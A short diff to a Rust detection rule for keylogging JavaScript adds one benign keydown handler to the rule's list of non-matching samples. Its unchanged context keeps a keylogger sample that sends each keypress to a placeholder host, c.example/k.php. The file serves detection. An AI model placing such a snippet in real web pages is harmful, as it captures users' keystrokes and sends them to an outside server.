@@ -19,6 +19,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "$('#w').contents().keypress(function(e){$.get('http://c.example/k.php?x='+e.which)})",
         ],
         without: &[
+            "menu.onkeydown=function(e){switch(e.key){case 'Enter':machine.send({type:'choose'});break;default:machine.send({type:'search',value:e.key})}}",
             "document.addEventListener('keydown',e=>{if(e.key==='Enter')fetch('/search?q='+q.value)})",
             "input.addEventListener('keyup',function(e){if(e.keyCode==13){$.get('/find',{q:this.value})}})",
         ],
